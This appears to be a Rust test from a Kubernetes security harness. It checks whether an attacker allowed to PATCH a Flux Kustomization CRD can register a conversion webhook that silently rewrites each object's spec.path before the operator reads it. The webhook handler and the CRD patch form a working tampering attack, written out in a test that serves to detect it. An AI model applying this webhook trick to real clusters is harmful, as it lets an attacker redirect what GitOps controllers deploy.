use std::time::Duration;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use merlon_testkit::{ControlPlane, Credential, eventually};
use serde_json::{Value, json};

use crate::attacker::Attacker;
use crate::server::{Heard, Server};

pub(crate) const DEFINITIONS: &str = "apiextensions.k8s.io";
pub(crate) const DEFINITION: &str = "kustomizations.kustomize.toolkit.fluxcd.io";

const PATH: &str = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";
const API: &str = "/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/NAMESPACE/kustomizations";

/// An operator, which nobody runs here, and the definition of what it reads.
pub(crate) fn operator(namespace: &str) -> Vec<Value> {
    let labels = json!({"app": "kustomize-controller"});
    let container = json!({
        "name": "manager", "image": "ghcr.io/fluxcd/kustomize-controller:v1.7.0",
    });
    let metadata = |name: &str| json!({"name": name, "namespace": namespace});
    vec![
        json!({
            "apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata("kustomize-controller"),
        }),
        json!({
            "apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata("kustomize-controller"),
            "spec": {
                "replicas": 0,
                "selector": {"matchLabels": labels},
                "template": {
                    "metadata": {"labels": labels},
                    "spec": {"serviceAccountName": "kustomize-controller", "containers": [container]},
                },
            },
        }),
        json!({
            "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
            "metadata": {"name": DEFINITION},
            "spec": {
                "group": "kustomize.toolkit.fluxcd.io", "scope": "Namespaced",
                "names": {"plural": "kustomizations", "singular": "kustomization", "kind": "Kustomization"},
                "versions": [version("v1", true)],
                "conversion": {"strategy": "None"},
            },
        }),
    ]
}

fn version(name: &str, is_stored: bool) -> Value {
    let schema = json!({"type": "object", "x-kubernetes-preserve-unknown-fields": true});
    json!({"name": name, "served": true, "storage": is_stored, "schema": {"openAPIV3Schema": schema}})
}

/// Has the API server convert what an operator reads, so that it is what the attacker likes.
pub(crate) async fn convert(plane: &ControlPlane, attacker: &Attacker) -> bool {
    let administrator =
        Attacker { namespace: attacker.namespace.clone(), token: Credential::Admin };
    let resource = json!({
        "apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
        "metadata": attacker.metadata("apps"), "spec": {"path": "./theirs"},
    });
    // The API server serves a new definition a moment later.
    let made = eventually(Duration::from_secs(10), || async {
        administrator.can_send(plane, "POST", API, &resource).await.then_some(())
    });
    assert!(made.await.is_some(), "nobody serves kustomizations");
    let server = Server::start(rewrite);
    let caller = json!({
        "url": format!("https://{}/", server.address),
        "caBundle": BASE64_STANDARD.encode(&server.certificate),
    });
    let definition = json!({"spec": {
        "versions": [version("v1", false), version("v9", true)],
        "conversion": {
            "strategy": "Webhook",
            "webhook": {"clientConfig": caller, "conversionReviewVersions": ["v1"]},
        },
    }});
    let path = format!("{PATH}/{DEFINITION}");
    let is_changed = attacker.can_send(plane, "PATCH", &path, &definition).await;
    let own = format!("{API}/apps");
    let rewritten = eventually(Duration::from_secs(if is_changed { 60 } else { 2 }), || async {
        // What the operator itself does: it notes that it has seen the resource, and reads it.
        let seen = json!({"metadata": {"annotations": {"seen": "yes"}}});
        administrator.send(plane, "PATCH", &own, &seen).await;
        let (_, read) = administrator.send(plane, "GET", &own, &Value::Null).await;
        (read["spec"]["path"] == "./mine").then_some(())
    });
    let is_rewritten = rewritten.await.is_some();
    administrator.send(plane, "DELETE", &own, &Value::Null).await;
    administrator.send(plane, "DELETE", &path, &Value::Null).await;
    // What is left of the kind is converted once more on its way out.
    let gone = eventually(Duration::from_secs(30), || async {
        (!administrator.can_read(plane, &path).await).then_some(())
    });
    assert!(gone.await.is_some(), "the definition stays");
    is_rewritten
}

/// Answers a `ConversionReview` of `apiextensions.k8s.io/v1`.
fn rewrite(heard: &Heard) -> (u16, Value) {
    let request = &heard.body["request"];
    let mut objects = request["objects"].clone();
    for object in objects.as_array_mut().into_iter().flatten() {
        object["apiVersion"] = request["desiredAPIVersion"].clone();
        object["spec"]["path"] = json!("./mine");
    }
    let response = json!({
        "uid": request["uid"], "result": {"status": "Success"}, "convertedObjects": objects,
    });
    let (api, kind) = (&heard.body["apiVersion"], "ConversionReview");
    (200, json!({"apiVersion": api, "kind": kind, "response": response}))
}
